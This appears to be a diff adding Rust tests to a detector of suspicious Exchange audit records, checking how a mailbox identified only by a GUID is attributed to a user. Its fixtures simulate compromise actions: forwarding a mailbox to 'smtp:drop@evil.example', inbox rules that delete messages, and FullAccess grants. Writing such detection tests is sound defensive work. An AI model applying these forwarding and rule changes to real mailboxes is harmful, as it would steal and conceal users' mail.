@@ -97,3 +97,67 @@ fn earlier_records_stand_in_for_the_current_rule_offline() {
     let found = judge(&parsed(&enabled), &known).unwrap();
     assert!(has(&found, "ForwardsExternally"), "{:?}", reasons(&found));
 }
+
+/// The path of a mailbox that has only a GUID as its name.
+fn path(guid: &str) -> String {
+    format!("EURPR01A001.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/{guid}")
+}
+
+const OTHER: &str = "0f4cc0f3-6b5c-4e5f-8a8e-222222222222";
+
+fn by(user: &str, operation: &str, members: &Value) -> Value {
+    let mut record = record(operation, members);
+    record["UserId"] = json!(user);
+    record
+}
+
+fn forwarding(guid: &str) -> Value {
+    let list = json!([{"Name": "Identity", "Value": path(guid)}, {"Name": "ForwardingSmtpAddress", "Value": "smtp:drop@evil.example"}]);
+    by("admin@contoso.com", "Set-Mailbox", &json!({"ObjectId": path(guid), "Parameters": list}))
+}
+
+#[test]
+fn mailbox_with_only_a_guid_is_not_the_administrators() {
+    let (one, other) = (offline(&forwarding(GUID)), offline(&forwarding(OTHER)));
+    assert_eq!((one.mailbox.as_str(), other.mailbox.as_str()), (GUID, OTHER));
+    assert!(has(&one, "ChangedByAnother") && one.fingerprint != other.fingerprint);
+    for (operation, parameter) in [("Set-CASMailbox", "ImapEnabled"), ("Add-MailboxPermission", "AutoMapping")] {
+        let list = json!([{"Name": "Identity", "Value": path(GUID)}, {"Name": "User", "Value": "lee@contoso.com"},
+            {"Name": "AccessRights", "Value": "FullAccess"}, {"Name": parameter, "Value": "True"}]);
+        let found = offline(&by("admin@contoso.com", operation, &json!({"Parameters": list})));
+        assert_eq!(found.mailbox, GUID, "{operation}");
+    }
+    let own = by(
+        "grady@contoso.com",
+        "New-InboxRule",
+        &json!({"ObjectId": format!("{}\\Post", path(GUID)),
+        "Parameters": [{"Name": "Name", "Value": "Post"}, {"Name": "DeleteMessage", "Value": "True"}]}),
+    );
+    assert_eq!(offline(&own).mailbox, "grady@contoso.com");
+}
+
+#[test]
+fn other_records_tell_whose_mailbox_a_guid_is() {
+    let rule = |user: &str, guid: &str| {
+        by(
+            user,
+            "New-InboxRule",
+            &json!({"ObjectId": format!("{}\\Post", path(guid)),
+            "Parameters": [{"Name": "Name", "Value": "Post"}, {"Name": "DeleteMessage", "Value": "True"}]}),
+        )
+    };
+    let mailbox_of = |records: &[Value], judged: &Value| {
+        let mut known = tenant();
+        known.offline = true;
+        records.iter().for_each(|record| known.mailbox_ids.note(&parsed(record)));
+        judge(&parsed(judged), &known).unwrap().mailbox
+    };
+    let own = rule("grady@contoso.com", GUID);
+    assert_eq!(mailbox_of(std::slice::from_ref(&own), &forwarding(GUID)), "grady@contoso.com");
+    let audited = delete_by(&json!({"MailboxOwnerUPN": "lee@contoso.com", "MailboxGuid": OTHER, "LogonType": 0}));
+    assert_eq!(mailbox_of(&[audited], &forwarding(OTHER)), "lee@contoso.com");
+    // A user who works in two mailboxes is the owner of neither, as far as the records show.
+    let both = [rule("admin@contoso.com", GUID), rule("admin@contoso.com", OTHER)];
+    assert_eq!(mailbox_of(&both, &both[0]), GUID);
+    assert_eq!(mailbox_of(&both, &forwarding(OTHER)), OTHER);
+}
